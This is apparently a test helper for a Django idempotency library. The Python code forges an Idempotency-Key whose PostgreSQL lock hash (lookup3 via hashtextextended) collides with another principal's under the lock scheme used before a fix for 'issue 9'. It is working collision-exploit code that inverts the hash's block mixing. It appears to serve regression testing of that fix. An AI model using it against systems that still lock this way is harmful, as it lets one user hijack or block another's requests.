"""Forging an Idempotency-Key whose lock collides with another principal's, under the
unkeyed lock id the claim used before issue 9: ``hashtextextended(scope || chr(1) || key, 0)``.

That hash is PostgreSQL's ``hash_bytes_extended`` (Bob Jenkins' lookup3 with a 64-bit
result), and its block mixing is a bijection that anyone can compute. Two inputs of the
same length whose states agree after some 12-byte block hash alike if the rest is the
same bytes. So the forger copies the victim's tail and solves for one block: the block's
words are the victim's state plus words, minus the forger's own state. A few random key
characters in the block before it are tried until that block is made of valid key
characters, about 1 in 280,000 tries (a second or so of pure Python).
"""

from __future__ import annotations

import random
import struct

# What the claim locked on: the principal and the key, joined by chr(1).
SEPARATOR = "\x01"
# The library's key alphabet (django_idempotency.http.identity), written out again.
KEY_CHARS = "".join(chr(c) for c in range(0x21, 0x7F) if chr(c) not in '",;\\')
_VALID = frozenset(KEY_CHARS.encode())
_VALID_HALVES = [(h & 0xFF) in _VALID and (h >> 8) in _VALID for h in range(1 << 16)]
_MASK = 0xFFFFFFFF


def _mix(a: int, b: int, c: int) -> tuple[int, int, int]:
    # lookup3's mix, unrolled: each round is "x -= z; x ^= rot(z, k); z += y".
    a = (((a - c) & _MASK) ^ ((c << 4) | (c >> 28))) & _MASK
    c = (c + b) & _MASK
    b = (((b - a) & _MASK) ^ ((a << 6) | (a >> 26))) & _MASK
    a = (a + c) & _MASK
    c = (((c - b) & _MASK) ^ ((b << 8) | (b >> 24))) & _MASK
    b = (b + a) & _MASK
    a = (((a - c) & _MASK) ^ ((c << 16) | (c >> 16))) & _MASK
    c = (c + b) & _MASK
    b = (((b - a) & _MASK) ^ ((a << 19) | (a >> 13))) & _MASK
    a = (a + c) & _MASK
    c = (((c - b) & _MASK) ^ ((b << 4) | (b >> 28))) & _MASK
    b = (b + a) & _MASK
    return a, b, c


def _state_before(data: bytes, block: int) -> tuple[int, int, int]:
    """lookup3's state before absorbing 12-byte block number ``block`` (seed 0)."""
    a = b = c = (0x9E3779B9 + len(data) + 3923095) & _MASK
    for n in range(block):
        wa, wb, wc = struct.unpack_from("<3I", data, 12 * n)
        a, b, c = _mix((a + wa) & _MASK, (b + wb) & _MASK, (c + wc) & _MASK)
    return a, b, c


def lock_input(principal: str, key: str) -> bytes:
    return (principal + SEPARATOR + key).encode()


def forge_colliding_key(
    victim_principal: str, victim_key: str, forger_principal: str, rng: random.Random
) -> str:
    """A key of valid characters that ``forger_principal`` can send and whose old lock id
    equals the victim's."""
    victim = lock_input(victim_principal, victim_key)
    prefix = len(forger_principal) + len(SEPARATOR)
    # The solved block is the last whole one with a byte after it (so that it is hashed
    # as a whole block whatever the tail loop's form); the block before it is all random
    # key characters; the tail after it is the victim's, so it must be the victim's key.
    block = (len(victim) - 1) // 12 - 1
    if 12 * (block - 1) < prefix or 12 * (block + 1) < len(victim_principal) + len(SEPARATOR):
        raise ValueError("the key is too short, or the principal too long, to forge against")
    va, vb, vc = _state_before(victim, block)
    wa, wb, wc = struct.unpack_from("<3I", victim, 12 * block)
    target = ((va + wa) & _MASK, (vb + wb) & _MASK, (vc + wc) & _MASK)
    tail = victim[12 * (block + 1) :]
    alphabet = KEY_CHARS.encode()
    head = bytes(rng.choice(alphabet) for _ in range(12 * (block - 1) - prefix))
    base = forger_principal.encode() + SEPARATOR.encode() + head
    # The state before the random block is fixed: one mix per try.
    a0, b0, c0 = _state_before(base + bytes(24) + tail, block - 1)
    words = [int.from_bytes(bytes(rng.choice(alphabet) for _ in range(4)), "little")
             for _ in range(4096)]  # fmt: skip
    while True:
        xa, xb = rng.choice(words), rng.choice(words)
        for xc in words:
            a, b, c = _mix((a0 + xa) & _MASK, (b0 + xb) & _MASK, (c0 + xc) & _MASK)
            solved = ((target[0] - a) & _MASK, (target[1] - b) & _MASK, (target[2] - c) & _MASK)
            if all(_valid_word(w) for w in solved):
                chosen = struct.pack("<3I", xa, xb, xc)
                forged = (head + chosen + struct.pack("<3I", *solved) + tail).decode()
                assert len(lock_input(forger_principal, forged)) == len(victim)
                return forged


def _valid_word(word: int) -> bool:
    return _VALID_HALVES[word & 0xFFFF] and _VALID_HALVES[word >> 16]
